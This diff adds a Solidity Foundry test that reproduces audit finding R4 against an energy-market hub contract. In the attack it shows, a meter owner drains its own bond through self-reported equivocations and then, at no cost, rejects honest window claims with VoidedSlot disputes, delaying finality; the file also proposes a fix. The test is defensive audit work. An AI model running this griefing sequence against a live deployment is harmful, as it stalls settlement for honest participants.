@@ -1,0 +1,230 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.24;
+
+import {MarketParams, MeterEnergy, ParticipantState, StateHash} from "../../src/types/Market.sol";
+import {CommunityConfig, Meter, ParticipantAccount, WindowStatus} from "../../src/types/Community.sol";
+import {
+    DisputeKind,
+    EquivocationProof,
+    IntervalProof,
+    SignedReading,
+    VoidedSlotProof
+} from "../../src/types/Dispute.sol";
+import {Market} from "../../src/libraries/Market.sol";
+import {MerkleTree} from "../../src/libraries/MerkleTree.sol";
+import {Reading, ReadingCodec} from "../../src/libraries/ReadingCodec.sol";
+import {WindowCommitment} from "../../src/libraries/WindowCommitment.sol";
+import {HubFixture} from "../utils/HubFixture.sol";
+
+// Test code: timestamps are the cheatcode's, casts are of small bounded values.
+// forge-lint: disable-start(block-timestamp, unsafe-typecast)
+
+/// @notice Security review of main (docs/review.md), R4: a meter owner delays every window's finality by
+/// up to W × (its meters) challenge periods, for free once its bond is gone, by equivocating on a
+/// slot AFTER an honest claim kept its (then only) reading, and rejecting that claim with VoidedSlot.
+contract ReviewVoidGriefTest is HubFixture {
+    uint32 internal constant GW = 16;
+    uint256 internal constant NP = 4;
+    /// The attacker: participant 3, owner of meter 0 (a P-256 meter whose key it holds).
+    uint256 internal constant OWNER = 3;
+    uint256 internal constant METER_SK = 0xA11CE5EC2E7;
+    uint256 internal constant MP = 4;
+
+    uint64 internal id;
+    address internal attacker;
+    bool[GW] internal voided;
+
+    bytes32[][] internal slotLeaves;
+    bytes32[] internal readingsRoots;
+    bytes32[] internal stateHashes;
+    bytes32[] internal leaves;
+    ParticipantState[] internal finalState;
+    bytes32 internal root;
+    /// The readings the honest nodes received, signed once (P-256 signing is randomized).
+    SignedReading[GW] internal firstReadings;
+
+    function setUp() public {
+        _deploy(NP);
+        attacker = nodes[OWNER];
+        CommunityConfig memory c = _config(NP);
+        (uint256 qx, uint256 qy) = vm.publicKeyP256(METER_SK);
+        c.meters[0] = Meter(abi.encodePacked(qx, qy), P256, uint32(OWNER));
+        c.windowIntervals = GW;
+        c.windowCount = 1;
+        id = hub.open(c);
+        _joinAll(id, NP);
+        for (uint32 t = 0; t < GW; ++t) {
+            firstReadings[t] = _reading(t, 100 + t);
+        }
+    }
+
+    // ------------------------------------------------------------------ readings and commitment
+
+    function _reading(uint32 t, uint32 exportWh) internal view returns (SignedReading memory s) {
+        s.encoded = ReadingCodec.encode(Reading(uint64(block.chainid), address(hub), id, 0, t, exportWh, uint32(0)));
+        (bytes32 r, bytes32 sv) = vm.signP256(METER_SK, sha256(s.encoded));
+        s.signature = abi.encodePacked(r, sv);
+    }
+
+    /// @dev The reading the honest nodes received for (meter 0, t).
+    function _first(uint32 t) internal view returns (SignedReading memory) {
+        return firstReadings[t];
+    }
+
+    /// @dev The honest commitment of window 0: meter 0's first reading in every slot not voided on chain
+    /// (honest nodes fold a voided slot as absent), every other meter silent; F folded from zeros.
+    function _honestCommit() internal {
+        delete slotLeaves;
+        delete readingsRoots;
+        delete stateHashes;
+        delete leaves;
+        MarketParams memory p = hub.community(id).market;
+        uint32[] memory owners = new uint32[](MP);
+        for (uint256 m = 0; m < MP; ++m) {
+            owners[m] = uint32(m);
+        }
+        owners[0] = uint32(OWNER);
+        ParticipantState[] memory s = Market.emptyState(NP);
+        for (uint32 t = 0; t < GW; ++t) {
+            bytes32[] memory sl = new bytes32[](MP);
+            MeterEnergy[] memory e = new MeterEnergy[](MP);
+            for (uint256 m = 0; m < MP; ++m) {
+                sl[m] = WindowCommitment.ABSENT_LEAF;
+            }
+            if (!voided[t]) {
+                SignedReading memory r = _first(t);
+                sl[0] = WindowCommitment.slotLeaf(r.encoded, r.signature);
+                e[0] = MeterEnergy(true, 100 + t, 0);
+            }
+            s = Market.step(p, s, owners, e);
+            slotLeaves.push(sl);
+            readingsRoots.push(MerkleTree.root(sl));
+            stateHashes.push(StateHash.hash(s));
+            leaves.push(WindowCommitment.intervalLeaf(t, readingsRoots[t], stateHashes[t]));
+        }
+        delete finalState;
+        for (uint256 i = 0; i < NP; ++i) {
+            finalState.push(s[i]);
+        }
+        root = MerkleTree.root(leaves);
+    }
+
+    function _siblings(bytes32[] memory level0, uint256 index) internal pure returns (bytes32[] memory proof) {
+        uint256 depth = MerkleTree.depth(level0.length);
+        uint256 width = uint256(1) << depth;
+        bytes32[] memory level = new bytes32[](width);
+        for (uint256 i = 0; i < level0.length; ++i) {
+            level[i] = level0[i];
+        }
+        proof = new bytes32[](depth);
+        for (uint256 d = 0; d < depth; ++d) {
+            proof[d] = level[index ^ 1];
+            width >>= 1;
+            for (uint256 i = 0; i < width; ++i) {
+                level[i] = MerkleTree.hashPair(level[2 * i], level[2 * i + 1]);
+            }
+            index >>= 1;
+        }
+    }
+
+    /// @dev Participants 0..2 (everyone but the attacker) sign and post the honest commitment.
+    function _postHonest() internal {
+        _honestCommit();
+        bytes memory sigs;
+        for (uint256 i = 0; i < NP; ++i) {
+            if (i == OWNER) continue;
+            // forge-lint: disable-next-line(unsafe-typecast)
+            sigs =
+                bytes.concat(sigs, abi.encodePacked(uint8(i), _signDigest(keys[i], _digest(id, 0, root, finalState))));
+        }
+        hub.update(id, 0, root, _packed(finalState), _packConcat(sigs));
+    }
+
+    function _commitNow(DisputeKind kind, bytes memory proof) internal {
+        vm.prank(attacker);
+        hub.commitDispute(keccak256(abi.encode(attacker, id, uint32(0), kind, keccak256(proof))));
+    }
+
+    function _equivocationProof(uint32 t) internal view returns (bytes memory) {
+        return abi.encode(EquivocationProof(_first(t), _reading(t, 999)));
+    }
+
+    function _voidedSlotProof(uint32 t) internal view returns (bytes memory) {
+        IntervalProof memory leaf = IntervalProof(t, t, readingsRoots[t], stateHashes[t], _siblings(leaves, t));
+        return abi.encode(VoidedSlotProof(leaf, 0, _first(t), _siblings(slotLeaves[t], 0)));
+    }
+
+    function _hubHoldsExactly() internal view {
+        uint256 sum;
+        for (uint256 i = 0; i < NP; ++i) {
+            ParticipantAccount memory a = hub.account(id, i);
+            sum += uint256(a.escrow) + a.bond + hub.withdrawable(token, nodes[i]);
+        }
+        assertEq(token.balanceOf(address(hub)), sum, "money conserved");
+    }
+
+    // ------------------------------------------------------------------ R4
+
+    /// R4. Equivocation slashes `min(bond, 10 % of the configured bond)` and bonds are never topped up:
+    /// after 10 self-reported equivocations (or once settlement drew its bond down) a meter owner
+    /// equivocates for free, forever. A slot voided AFTER an honest claim was posted makes that claim
+    /// "wrong" (VoidedSlot, good faith: rejected, nobody slashed), and, unlike an omission, VoidedSlot
+    /// may be raised by anyone, the owner included. So the owner, each time an honest claim of the
+    /// window is about to finalize, signs a second reading for one of its slots the claim kept, reports
+    /// its own equivocation and rejects the claim: W × (its meters) rejections per window, each costing
+    /// the honest side a new challenge period. Here W = 16, one meter: 6 free rejections after a
+    /// 1,000-token drain; at W = 96 and a 1-day period that is 96 days per window.
+    /// Rule that stops it: a void recorded after a claim was submitted must not make that claim wrong
+    /// (record the void's time; VoidedSlot only against claims submitted after it), and an equivocation
+    /// must cost a fixed deposit that cannot reach zero (or bar an owner whose bond is spent).
+    function test_R4_Medium_OwnerEquivocatesAfterClaimToRejectHonestClaimsForFree() public {
+        vm.warp(uint256(START) + uint256(GW) * INTERVAL);
+        uint256 windowEnd = block.timestamp;
+        // Drain: 10 self-reported equivocations on slots 0..9 take the whole 1,000 bond (to the others).
+        for (uint32 t = 0; t < 10; ++t) {
+            bytes memory proof = _equivocationProof(t);
+            _commitNow(DisputeKind.Equivocation, proof);
+            vm.roll(block.number + 1);
+            vm.prank(attacker);
+            hub.dispute(id, 0, bytes32(0), bytes32(0), DisputeKind.Equivocation, proof);
+            voided[t] = true;
+        }
+        assertEq(hub.account(id, OWNER).bond, 0, "bond spent: equivocation is free from now on");
+        uint128 escrowBefore = hub.account(id, OWNER).escrow;
+
+        // Each honest claim keeps slots 10..15; the attacker rejects it at the last second, for free.
+        uint256 rejections;
+        for (uint32 t = 10; t < GW; ++t) {
+            _postHonest();
+            uint256 deadline = block.timestamp + CHALLENGE;
+            vm.warp(deadline - 2);
+            bytes memory eq = _equivocationProof(t);
+            voided[t] = true; // the proof below names the claim's committed (first) reading
+            bytes memory vs = _voidedSlotProof(t);
+            _commitNow(DisputeKind.Equivocation, eq);
+            _commitNow(DisputeKind.VoidedSlot, vs);
+            vm.roll(block.number + 1);
+            vm.warp(deadline - 1);
+            vm.startPrank(attacker);
+            hub.dispute(id, 0, bytes32(0), bytes32(0), DisputeKind.Equivocation, eq);
+            hub.dispute(id, 0, root, StateHash.hash(finalState), DisputeKind.VoidedSlot, vs);
+            vm.stopPrank();
+            assertEq(uint8(hub.windowRecord(id, 0).status), uint8(WindowStatus.None), "honest claim rejected");
+            ++rejections;
+        }
+        assertEq(rejections, 6);
+        assertEq(hub.account(id, OWNER).escrow, escrowBefore, "the rejections cost the attacker nothing");
+        assertEq(hub.account(id, OWNER).bond, 0);
+        for (uint256 i = 0; i < NP; ++i) {
+            if (i != OWNER) assertEq(hub.account(id, i).bond, BOND, "honest signers not slashed");
+        }
+
+        // Only the 7th honest claim (every slot voided) finalizes: 7 challenge periods after the window.
+        _postHonest();
+        vm.warp(block.timestamp + CHALLENGE);
+        hub.finalize(id);
+        assertGe(block.timestamp - windowEnd, 7 * uint256(CHALLENGE) - 7, "finality delayed 7 periods");
+        _hubHoldsExactly();
+    }
+}
+// forge-lint: disable-end(block-timestamp, unsafe-typecast)
